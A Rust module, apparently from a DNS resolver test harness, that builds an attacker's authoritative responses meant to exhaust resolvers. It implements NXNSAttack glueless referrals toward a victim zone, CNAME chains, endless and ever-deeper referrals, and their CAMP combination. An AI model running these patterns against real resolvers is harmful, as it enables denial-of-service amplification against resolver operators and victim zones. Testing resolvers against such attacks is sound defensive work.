//! Responses of an attacker's server that keep a resolver busy: referrals and aliases that lead to
//! further ones.
//!
//! Responses depend only on the question, so every name below the attacker's zone starts a new
//! attack at no cost. A child is the name one label below the attacker's zone; its first label is
//! `ROUND-TAG`, or a tag alone for round 0, and each step leads to the next round.

use std::net::Ipv4Addr;

use hickory_proto::{
    op::Message,
    rr::{Name, RData, Record, rdata},
};

use super::{authority::INVENTED_TTL_S, internet::name};

/// The depth below its zone at which a name counts as exhausted; a name has at most 127 labels.
const USED_UP: usize = 100;

/// One kind of attack.
#[derive(Clone, Debug)]
pub enum Attack {
    /// Refers each child to this many servers named in another zone, without glue: NXNSAttack.
    GluelessReferrals {
        /// Name servers of a referral.
        servers: usize,
        /// The zone in which their addresses must be resolved.
        victim: &'static str,
    },
    /// Each child is an alias of the next one, for this many rounds.
    Aliases {
        /// Number of aliases before the address.
        length: usize,
    },
    /// Each child's only server is named below the next child: no address is ever found.
    EndlessReferrals,
    /// Refers one label deeper with each query, back to the server itself; the deepest name is an
    /// alias of a new one of the same depth.
    EverDeeper,
    /// Refers to the zone that was queried, and to itself.
    BackToItself,
    /// The product of the above (CAMP): each child is first referred to servers without glue and,
    /// with glue, to the server itself, and is then an alias of the next child.
    AliasesAcrossReferrals {
        /// Name servers without glue in a referral.
        servers: usize,
        /// The zone in which their addresses must be resolved.
        victim: &'static str,
    },
}

/// The position of a query in an attack.
pub(super) struct Position {
    /// The attacker's server.
    pub server: Name,
    pub address: Ipv4Addr,
    pub apex: Name,
    /// The ancestor of the query name, or the name itself, that is directly below the zone.
    pub child: Name,
    /// The query name.
    pub question: Name,
    /// The number of queries for this child so far, including this one.
    pub turn: usize,
}

impl Attack {
    /// Completes a response that has only the question.
    pub(super) fn play(&self, position: &Position, reply: Message) -> Message {
        match self {
            Self::GluelessReferrals { servers, victim } => referral(
                reply,
                &position.child,
                &position.far_servers(*servers, victim),
            ),
            Self::Aliases { length } if position.round() >= *length => {
                answer(reply, RData::A(rdata::A(position.address)))
            }
            Self::Aliases { .. } => alias(reply, position.next_child()),
            Self::EndlessReferrals => {
                let server = below("ns", &position.next_child());
                referral(reply, &position.child, &[server])
            }
            Self::EverDeeper => position.deeper(reply),
            Self::BackToItself => position.refer_here(reply, &position.apex),
            Self::AliasesAcrossReferrals { servers, victim } if position.turn == 1 => {
                let reply = referral(
                    reply,
                    &position.child,
                    &position.far_servers(*servers, victim),
                );
                position.refer_here(reply, &position.child)
            }
            Self::AliasesAcrossReferrals { .. } => {
                alias(reply, below("www", &position.next_child()))
            }
        }
    }
}

impl Position {
    /// The round and the tag in the child's first label.
    fn label(&self) -> (usize, String) {
        let label =
            String::from_utf8_lossy(self.child.iter().next().unwrap_or_default()).into_owned();
        match label
            .split_once('-')
            .map(|(round, tag)| (round.parse(), tag.to_owned()))
        {
            Some((Ok(round), tag)) => (round, tag),
            _ => (0, label),
        }
    }

    fn round(&self) -> usize {
        self.label().0
    }

    fn next_child(&self) -> Name {
        let (round, tag) = self.label();
        below(&format!("{}-{tag}", round + 1), &self.apex)
    }

    /// Names that no other child is referred to.
    fn far_servers(&self, servers: usize, victim: &str) -> Vec<Name> {
        let (round, tag) = self.label();
        (0..servers)
            .map(|number| below(&format!("{number}x{round}-{tag}"), &name(victim)))
            .collect()
    }

    /// Adds a referral of `cut` to the attacker's server, with glue.
    fn refer_here(&self, reply: Message, cut: &Name) -> Message {
        // Named below the cut, so that a resolver may accept the glue; the zone's own server has
        // its own name.
        let server = if cut == &self.apex {
            self.server.clone()
        } else {
            below("ns", cut)
        };
        let mut reply = referral(reply, cut, std::slice::from_ref(&server));
        reply.additionals.push(Record::from_rdata(
            server,
            INVENTED_TTL_S,
            RData::A(rdata::A(self.address)),
        ));
        reply
    }

    fn deeper(&self, reply: Message) -> Message {
        let zone = usize::from(self.apex.num_labels());
        let asked = usize::from(self.question.num_labels());
        if asked < zone + self.turn && asked >= zone + USED_UP {
            let deep = (1..asked - zone).fold(self.next_child(), |name, _| below("a", &name));
            return alias(reply, deep);
        }
        let cut = self.question.trim_to(asked.min(zone + self.turn));
        self.refer_here(reply, &cut)
    }
}

fn below(label: &str, parent: &Name) -> Name {
    parent
        .prepend_label(label)
        .unwrap_or_else(|error| panic!("{label} below {parent}: {error}"))
}

fn referral(mut reply: Message, cut: &Name, servers: &[Name]) -> Message {
    let record = |server: &Name| {
        Record::from_rdata(
            cut.clone(),
            INVENTED_TTL_S,
            RData::NS(rdata::NS(server.clone())),
        )
    };
    reply.authorities.extend(servers.iter().map(record));
    reply
}

fn alias(reply: Message, target: Name) -> Message {
    answer(reply, RData::CNAME(rdata::CNAME(target)))
}

fn answer(mut reply: Message, data: RData) -> Message {
    reply.metadata.authoritative = true;
    let owner = reply.queries[0].name.clone();
    reply
        .answers
        .push(Record::from_rdata(owner, INVENTED_TTL_S, data));
    reply
}
